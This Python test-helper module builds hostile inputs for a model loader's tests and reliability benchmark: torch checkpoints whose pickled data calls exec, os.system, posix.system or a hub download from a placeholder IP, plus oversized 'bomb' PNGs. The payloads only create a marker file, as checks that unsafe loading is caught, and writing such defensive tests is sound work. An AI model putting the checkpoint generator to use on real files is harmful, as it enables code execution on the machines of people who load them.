"""Files a hostile user hands demoe: checkpoints whose pickle calls functions, images whose
header promises more pixels than memory holds. Shared by the tests and
benchmarks/hostile_inputs.py (the reliability matrix).

(A module with a unique name rather than a conftest.py, as tests/random_weights.py.)
"""

from __future__ import annotations

import struct
import zipfile
import zlib
from pathlib import Path

import torch


def _unicode(text: str) -> bytes:
    data = text.encode()
    return b"X" + struct.pack("<I", len(data)) + data  # BINUNICODE


def call_pickle(module: str, name: str, args: tuple) -> bytes:
    """Protocol-2 pickle of {"params": module.name(*args)}: GLOBAL names the callable the way
    torch.save names the functions that rebuild tensors. args: strings and empty dicts."""
    arguments = b"".join(_unicode(a) if isinstance(a, str) else b"}" for a in args)
    return (
        b"\x80\x02}" + _unicode("params")
        + b"c" + module.encode() + b"\n" + name.encode() + b"\n"
        + b"(" + arguments + b"tR" + b"s."
    )


def write_torch_payload(path: Path, module: str, name: str, args: tuple) -> Path:
    """A file in torch.save's zip layout whose data.pkl calls module.name(*args) when loaded."""
    path = Path(path)
    torch.save({"params": {}}, path)
    with zipfile.ZipFile(path) as archive:
        entries = {info.filename: archive.read(info.filename) for info in archive.infolist()}
    pickled = next(name for name in entries if name.endswith("/data.pkl"))
    entries[pickled] = call_pickle(module, name, args)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        for entry, data in entries.items():
            archive.writestr(entry, data)
    return path


def payloads(marker: Path) -> dict[str, tuple[str, str, tuple]]:
    """name -> (module, callable, args) of pickled calls that would run code, write a file or
    reach the network; the first two create `marker` when the file is loaded unsafely."""
    source = f"import pathlib; pathlib.Path({str(marker)!r}).write_text('code ran')"
    return {
        "fx-exec": ("torch.fx.graph_module", "_exec_with_source", (source, {})),
        "torch-save": ("torch.serialization", "save", ("written", str(marker))),
        "torch-load": ("torch.serialization", "load", (str(marker) + ".pt",)),
        "hub-download": ("torch.hub", "download_url_to_file", ("http://198.51.100.1/x", str(marker))),
        "os-via-torch": ("torch.serialization", "os.system", (f"touch {marker}",)),
        "torch-os": ("torch", "os.system", (f"touch {marker}",)),
        "builtins-exec": ("builtins", "exec", (source,)),
        "posix-system": ("posix", "system", (f"touch {marker}",)),
    }


def huge_png(path: Path, width: int, height: int, channels: int = 3) -> Path:
    """An all-black 8-bit PNG of any size, written row by row (a 14000 x 14000 RGB file is
    about 190 KB and never exists as an array here)."""
    color_type = {1: 0, 3: 2, 4: 6}[channels]

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    compressor = zlib.compressobj(9)
    row = b"\x00" * (1 + width * channels)  # filter byte 0 + black pixels
    parts = [compressor.compress(row) for _ in range(height)]
    parts.append(compressor.flush())
    data = b"".join(parts)
    header = struct.pack(">IIBBBBB", width, height, 8, color_type, 0, 0, 0)
    Path(path).write_bytes(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b""))
    return Path(path)
